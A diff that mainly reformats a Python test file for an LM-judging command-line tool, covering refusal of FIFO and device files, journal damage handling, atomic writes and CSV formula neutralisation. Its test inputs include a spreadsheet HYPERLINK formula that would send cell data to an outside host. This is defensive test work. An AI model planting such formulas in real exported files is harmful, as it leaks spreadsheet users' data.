@@ -85,9 +85,23 @@ def _env(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
 
 
 def _judge_cli(fixtures: Path, url: str, *extra: str, command: str = "judge") -> list[str]:
-    return [command, "-b", f"jsonl:{fixtures}/bench.jsonl", "-c", "fluency", "--prompt",
-            f"{fixtures}/prompt.txt",
-            "--backend", "openai:stub-model", "--base-url", url, "--no-progress", "-n", "3", *extra]
+    return [
+        command,
+        "-b",
+        f"jsonl:{fixtures}/bench.jsonl",
+        "-c",
+        "fluency",
+        "--prompt",
+        f"{fixtures}/prompt.txt",
+        "--backend",
+        "openai:stub-model",
+        "--base-url",
+        url,
+        "--no-progress",
+        "-n",
+        "3",
+        *extra,
+    ]
 
 
 # --------------------------------------------------------------------------- files mitigate reads back
@@ -105,9 +119,14 @@ def _child(args: list[str], tmp_path: Path) -> subprocess.CompletedProcess[str]:
     """The CLI in its own process (bounded memory and time: a hang or a memory bomb fails, never stalls the
     suite)."""
     env = {**os.environ, "PYTHONPATH": str(REPO), "MITIGATE_CACHE_DIR": str(tmp_path / "cache")}
-    return subprocess.run([sys.executable, "-c", _RUN_IN_CHILD, *args], env=env, capture_output=True,
-                          text=True,
-                          timeout=120, cwd=tmp_path)
+    return subprocess.run(
+        [sys.executable, "-c", _RUN_IN_CHILD, *args],
+        env=env,
+        capture_output=True,
+        text=True,
+        timeout=120,
+        cwd=tmp_path,
+    )
 
 
 @needs_fifo
@@ -118,9 +137,11 @@ def test_a_fifo_journal_is_refused_by_what_it_is_before_any_request(fixtures, se
     before = server.request_count
     proc = _child(_judge_cli(fixtures, server.base_url, "--run-dir", str(run_dir)), tmp_path)
     assert proc.returncode == EXIT_REFUSED, proc.stderr
-    assert proc.stderr.splitlines() == [f"error: expected {run_dir}/journal.jsonl to be a regular file "
-                                        "mitigate reads back; it is a FIFO (named pipe) (remove it, or use "
-                                        "another folder)"]
+    assert proc.stderr.splitlines() == [
+        f"error: expected {run_dir}/journal.jsonl to be a regular file "
+        "mitigate reads back; it is a FIFO (named pipe) (remove it, or use "
+        "another folder)"
+    ]
     assert server.request_count == before
     assert stat.S_ISFIFO(os.lstat(run_dir / "journal.jsonl").st_mode)  # left as it was
 
@@ -136,8 +157,9 @@ def test_a_journal_linked_to_dev_zero_is_refused_without_reading_it(fixtures, se
 
 @needs_fifo
 @pytest.mark.parametrize("name", ["journal.jsonl.lock", "batches/batches.jsonl", "journals/x.jsonl"])
-def test_any_file_mitigate_reads_back_in_a_run_folder_is_checked_before_the_run(name, fixtures, server,
-                                                                                  tmp_path) -> None:
+def test_any_file_mitigate_reads_back_in_a_run_folder_is_checked_before_the_run(
+    name, fixtures, server, tmp_path
+) -> None:
     run_dir = tmp_path / "run"
     (run_dir / name).parent.mkdir(parents=True)
     os.mkfifo(run_dir / name)
@@ -146,15 +168,16 @@ def test_any_file_mitigate_reads_back_in_a_run_folder_is_checked_before_the_run(
 
 
 @needs_fifo
-def test_a_likelihood_cache_that_is_a_fifo_stops_compare_before_any_request(fixtures, server,
-                                                                            tmp_path) -> None:
+def test_a_likelihood_cache_that_is_a_fifo_stops_compare_before_any_request(
+    fixtures, server, tmp_path
+) -> None:
     out = tmp_path / "cmp"
     out.mkdir()
     os.mkfifo(out / "likelihood.jsonl")
     before = server.request_count
-    result = CliRunner().invoke(app,
-                                _judge_cli(fixtures, server.base_url, "-p", "baseline", "--out", str(out),
-                                                command="compare"))
+    result = CliRunner().invoke(
+        app, _judge_cli(fixtures, server.base_url, "-p", "baseline", "--out", str(out), command="compare")
+    )
     assert result.exit_code == EXIT_REFUSED and "likelihood.jsonl to be a regular file" in result.stderr
     assert server.request_count == before
 
@@ -178,8 +201,9 @@ def test_the_lock_the_journal_and_a_replay_file_refuse_a_fifo_or_device_on_their
             open_regular(target, "a", "the cache")
 
 
-def test_a_journal_line_longer_than_the_bound_is_refused_without_reading_it_whole(tmp_path,
-                                                                                  monkeypatch) -> None:
+def test_a_journal_line_longer_than_the_bound_is_refused_without_reading_it_whole(
+    tmp_path, monkeypatch
+) -> None:
     import mitigate.paths
 
     journal = tmp_path / "journal.jsonl"
@@ -206,15 +230,18 @@ def _edit_line(journal: Path, item_id: str, score: float) -> None:
 
 
 @pytest.mark.parametrize("score", [9.0, 0.0, float("nan"), float("inf")])
-def test_a_journal_score_off_the_scale_is_a_damaged_line_and_its_item_is_judged_again(score,
-                                                                                      tmp_path) -> None:
+def test_a_journal_score_off_the_scale_is_a_damaged_line_and_its_item_is_judged_again(
+    score, tmp_path
+) -> None:
     journal = tmp_path / "journal.jsonl"
     asyncio.run(run(_judge(FixedLM()), _items(3), journal=journal, progress=False))
     _edit_line(journal, "it1", score)
     lm = FixedLM()
-    with pytest.warns(JournalDamageWarning,
-                      match=r"1 judgment line\(s\) hold a score that is not on the judge's "
-                                                  r"scale \(line 3: 'score' is"):
+    with pytest.warns(
+        JournalDamageWarning,
+        match=r"1 judgment line\(s\) hold a score that is not on the judge's "
+        r"scale \(line 3: 'score' is",
+    ):
         result = asyncio.run(run(_judge(lm), _items(3), journal=journal, progress=False))
     assert lm.calls == 1  # it1 alone, judged again
     assert [j.scores["score"] for j in result.judgments] == [3.0, 3.0, 3.0]
@@ -230,9 +257,11 @@ def test_a_judge_reports_the_bounds_of_its_scores() -> None:
     judge = _judge(FixedLM())
     assert judge.score_bounds() == {"score": (1.0, 5.0)}
     assert with_first_prompt(parse_pipeline("granularity(scale=1-10)").wrap(judge)).score_bounds() == {
-        "score": (1.0, 10.0)}
-    assert parse_pipeline("sampling(n=3, temperature=0.7)").wrap(judge).score_bounds() == {"score": (1.0,
-                                                                                                     5.0)}
+        "score": (1.0, 10.0)
+    }
+    assert parse_pipeline("sampling(n=3, temperature=0.7)").wrap(judge).score_bounds() == {
+        "score": (1.0, 5.0)
+    }
 
 
 # --------------------------------------------------------------------------- outputs
@@ -261,8 +290,9 @@ def _device_node(path: Path) -> Path:
     return path
 
 
-def test_results_json_and_probe_out_that_are_devices_are_written_through_never_replaced(fixtures, server,
-                                                                                          tmp_path) -> None:
+def test_results_json_and_probe_out_that_are_devices_are_written_through_never_replaced(
+    fixtures, server, tmp_path
+) -> None:
     run_dir = tmp_path / "run"
     run_dir.mkdir()
     node = _device_node(run_dir / "results.json")
@@ -273,9 +303,12 @@ def test_results_json_and_probe_out_that_are_devices_are_written_through_never_r
     real = tmp_path / "probe-real.json"
     (tmp_path / "probe-link.json").symlink_to(real)
     for target in (out, tmp_path / "probe-link.json"):
-        result = CliRunner().invoke(app,
-                                    _judge_cli(fixtures, server.base_url, "--probes", "verbosity", "--out",
-                                                    str(target), command="probe"))
+        result = CliRunner().invoke(
+            app,
+            _judge_cli(
+                fixtures, server.base_url, "--probes", "verbosity", "--out", str(target), command="probe"
+            ),
+        )
         assert result.exit_code == 0, result.output
     assert stat.S_ISCHR(os.stat(out).st_mode)
     assert (tmp_path / "probe-link.json").is_symlink()
@@ -283,28 +316,32 @@ def test_results_json_and_probe_out_that_are_devices_are_written_through_never_r
 
 
 @pytest.mark.skipif(not os.path.exists("/dev/full"), reason="no /dev/full here")
-def test_a_full_disk_after_the_run_exits_1_saying_where_the_judgments_are_kept(fixtures, server,
-                                                                               tmp_path) -> None:
+def test_a_full_disk_after_the_run_exits_1_saying_where_the_judgments_are_kept(
+    fixtures, server, tmp_path
+) -> None:
     run_dir = tmp_path / "run"
     run_dir.mkdir()
     (run_dir / "results.json").symlink_to("/dev/full")
     result = CliRunner().invoke(app, _judge_cli(fixtures, server.base_url, "--run-dir", str(run_dir)))
     errors = [ln for ln in result.stderr.splitlines() if ln.startswith("error:")]
     assert result.exit_code == EXIT_FAILED, result.output
-    assert errors == [f"error: expected to write the results file {run_dir}/results.json; got No space left "
-                      "on device; the run finished and the judgments are kept in the journal "
-                      f"{run_dir}/journal.jsonl: fix that "
-                      "(free the space, change the path) and rerun the same command to write the files "
-                      "without new LM calls"]
-    result = CliRunner().invoke(app,
-                                _judge_cli(fixtures, server.base_url, "--out", "/dev/full", "--no-cache"))
+    assert errors == [
+        f"error: expected to write the results file {run_dir}/results.json; got No space left "
+        "on device; the run finished and the judgments are kept in the journal "
+        f"{run_dir}/journal.jsonl: fix that "
+        "(free the space, change the path) and rerun the same command to write the files "
+        "without new LM calls"
+    ]
+    result = CliRunner().invoke(
+        app, _judge_cli(fixtures, server.base_url, "--out", "/dev/full", "--no-cache")
+    )
     assert result.exit_code == EXIT_FAILED and "the judgments were kept nowhere" in result.stderr
     out = tmp_path / "cmp"
     out.mkdir()
     (out / "report.md").symlink_to("/dev/full")
-    result = CliRunner().invoke(app,
-                                _judge_cli(fixtures, server.base_url, "-p", "baseline", "--out", str(out),
-                                                command="compare"))
+    result = CliRunner().invoke(
+        app, _judge_cli(fixtures, server.base_url, "-p", "baseline", "--out", str(out), command="compare")
+    )
     assert result.exit_code == EXIT_FAILED and f"kept in the journals in {out}/journals" in result.stderr
 
 
@@ -326,8 +363,9 @@ def _writes_a_file(call: ast.Call) -> bool:
     name = func.attr if isinstance(func, ast.Attribute) else getattr(func, "id", "")
     if name == "open":
         modes = [a.value for a in call.args if isinstance(a, ast.Constant) and isinstance(a.value, str)]
-        modes += [k.value.value for k in call.keywords if k.arg == "mode"
-                  and isinstance(k.value, ast.Constant)]
+        modes += [
+            k.value.value for k in call.keywords if k.arg == "mode" and isinstance(k.value, ast.Constant)
+        ]
         return any(len(m) <= 3 and set(m) & set("wax+") for m in modes)
     if name in ("replace", "rename"):
         return isinstance(func, ast.Attribute) and getattr(func.value, "id", "") == "os"
@@ -339,18 +377,34 @@ def _writes_a_file(call: ast.Call) -> bool:
 def test_write_output_is_the_only_writer_of_output_files() -> None:
     """No module but mitigate/paths.py writes a file in place, renames over one, or saves a figure to a path
     (appending to a log mitigate keeps goes through open_regular, which is not an output)."""
-    found = [f"{path.relative_to(MITIGATE)}:{node.lineno}"
-             for path in sorted(MITIGATE.rglob("*.py"))
-             if path.relative_to(MITIGATE).as_posix() not in ("paths.py", "testing/_bad_inputs.py")
-             for node in ast.walk(ast.parse(path.read_text(encoding="utf-8")))
-             if isinstance(node, ast.Call) and _writes_a_file(node)]
+    found = [
+        f"{path.relative_to(MITIGATE)}:{node.lineno}"
+        for path in sorted(MITIGATE.rglob("*.py"))
+        if path.relative_to(MITIGATE).as_posix() not in ("paths.py", "testing/_bad_inputs.py")
+        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8")))
+        if isinstance(node, ast.Call) and _writes_a_file(node)
+    ]
     assert found == []
 
 
 # --------------------------------------------------------------------------- CSV cells
 
-FORMULAS = ['=HYPERLINK("http://example.com/?"&A1, "details")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1",
-            "'=already", "''twice", "'plain", "'", "plain", "", "-", "a=b"]
+FORMULAS = [
+    '=HYPERLINK("http://example.com/?"&A1, "details")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "\t=1",
+    "\r=1",
+    "'=already",
+    "''twice",
+    "'plain",
+    "'",
+    "plain",
+    "",
+    "-",
+    "a=b",
+]
 
 
 def test_csv_out_neutralises_cells_that_start_like_a_formula(tmp_path) -> None:
@@ -366,8 +420,10 @@ def test_csv_out_neutralises_cells_that_start_like_a_formula(tmp_path) -> None:
 
 
 def test_recorded_csv_written_by_mitigate_reads_back_every_text_unchanged(tmp_path) -> None:
-    rows = [RecordedRow(item_id=f"x{k}", judge="j", criterion="q", score=3.0, raw=text)
-            for k, text in enumerate(FORMULAS)]
+    rows = [
+        RecordedRow(item_id=f"x{k}", judge="j", criterion="q", score=3.0, raw=text)
+        for k, text in enumerate(FORMULAS)
+    ]
     path = save_recorded(runs_from_rows(rows, "memory")["j"], tmp_path / "rec.csv")
     with path.open(encoding="utf-8", newline="") as fh:
         cells = [cell for row in csv.reader(fh) for cell in row]
@@ -382,8 +438,9 @@ def test_csv_cells_round_trip_and_never_start_like_a_formula() -> None:
     from hypothesis import given
     from hypothesis import strategies as st
 
-    @given(st.text(alphabet=st.sampled_from(["=", "+", "-", "@", "\t", "\r", "'", "a", " ", "1"]),
-                   max_size=6))
+    @given(
+        st.text(alphabet=st.sampled_from(["=", "+", "-", "@", "\t", "\r", "'", "a", " ", "1"]), max_size=6)
+    )
     @hypothesis.settings(max_examples=300, deadline=None)
     def check(text: str) -> None:
         cell = csv_cell(text)
@@ -402,7 +459,9 @@ def test_write_output_writes_bytes_and_text_atomically(tmp_path) -> None:
     with pytest.raises(ZeroDivisionError):
         write_output(tmp_path / "b.txt", lambda fh: 1 / 0)
     assert (tmp_path / "b.txt").read_text() == "x\n" and sorted(p.name for p in tmp_path.iterdir()) == [
-        "a.bin", "b.txt"]
+        "a.bin",
+        "b.txt",
+    ]
 
 
 @needs_fifo
